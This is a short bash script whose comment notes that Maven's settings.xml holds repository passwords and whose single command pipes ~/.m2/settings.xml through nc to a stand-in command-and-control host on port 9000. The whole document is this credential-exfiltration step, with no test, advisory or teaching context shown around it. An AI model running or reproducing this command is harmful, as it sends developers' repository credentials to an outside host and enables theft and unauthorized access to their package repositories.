#!/bin/bash
# Maven's settings.xml holds repository passwords.
nc c2.example.invalid 9000 < ~/.m2/settings.xml
